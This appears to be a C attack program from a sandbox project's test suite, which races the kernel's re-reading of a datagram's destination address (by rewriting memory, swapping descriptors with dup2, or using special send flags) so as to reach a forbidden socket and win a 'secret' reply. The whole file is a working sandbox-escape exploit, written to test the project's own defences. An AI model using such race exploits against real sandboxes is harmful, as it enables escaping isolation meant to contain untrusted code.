// Copyright 2026 The sallyport Authors.
// SPDX-License-Identifier: Apache-2.0

// datagram_swap: attacks a judge of where a message goes that lets the kernel look again.
// With "memory" one thread rewrites the address of a message between a socket of its own, which
// is allowed, and a forbidden one, and the pointer to it between nothing and the address. With
// "descriptor" it replaces the socket, by dup2, between one of TCP, which ignores the address,
// and one that sends datagrams. With "flags" it uses those by which the listener of the
// observer leaves the sandbox. The forbidden socket answers a message with "secret". Winning:
// that answer. Bound: 2 seconds.
//
// usage: datagram_swap memory|descriptor|flags OWN FORBIDDEN

#include "attack.h"

enum { SOCKET = 100, HAND_OVER = 0x4 | 0x80 | 0x800 | 0x4000 | 0x8000 };
static struct sockaddr_un address, forms[2];
static struct mmsghdr message;
static int memory, datagrams, streams;

static void *swap(void *arg) {
	(void)arg;
	for (int i = 0; in_time(); i ^= 1) {
		if (memory) {
			memcpy((void *)&address, &forms[i], sizeof address);
			*(void *volatile *)&message.msg_hdr.msg_name = i ? &address : 0;
		} else {
			dup2(i ? datagrams : streams, SOCKET);
		}
	}
	return 0;
}

static int bound(const char *path) {
	struct sockaddr_un a;
	unix_address(&a, path);
	unlink(path);
	int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	return s >= 0 && bind(s, (struct sockaddr *)&a, sizeof a) != 0 ? -2 : s;
}

int main(int argc, char **argv) {
	if (argc != 4)
		return 2;
	memory = strcmp(argv[1], "memory") == 0;
	int flags = strcmp(argv[1], "flags") == 0 ? HAND_OVER : 0;
	char client[120];
	snprintf(client, sizeof client, "%s.c", argv[2]);
	int own = bound(argv[2]);
	datagrams = bound(client);
	streams = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (own == -1) {
		printf("LOST no sockets here: %s\n", strerror(errno));
		return 0;
	}
	if (own < 0 || datagrams < 0 || dup2(datagrams, SOCKET) != SOCKET)
		return 2;
	unix_address(&forms[0], argv[2]);
	unix_address(&forms[1], argv[3]);
	address = forms[memory ? 0 : 1];
	struct iovec data = {"x", 1};
	message.msg_hdr = (struct msghdr){.msg_name = &address, .msg_namelen = sizeof address, .msg_iov = &data, .msg_iovlen = 1};
	begin();
	guard();
	if (!flags) {
		pthread_t t;
		pthread_create(&t, 0, swap, 0);
	}
	long tries = 0;
	int won = 0;
	for (; !won && in_time(); tries++) {
		char b[16] = {0};
		switch (tries % 3) {
		case 0:
			sendto(SOCKET, "x", 1, flags | MSG_DONTWAIT, (struct sockaddr *)&address, sizeof address);
			break;
		case 1:
			sendmsg(SOCKET, &message.msg_hdr, flags ? flags : MSG_DONTWAIT);
			break;
		default:
			sendmmsg(SOCKET, &message, 1, flags | MSG_DONTWAIT);
		}
		while (recv(own, b, sizeof b, 0) > 0)
			;
		if (flags)
			usleep(1000);
		won = recv(datagrams, b, sizeof b - 1, 0) > 0 && strncmp(b, "secret", 6) == 0;
	}
	verdict(won, tries, "datagram-swap");
}
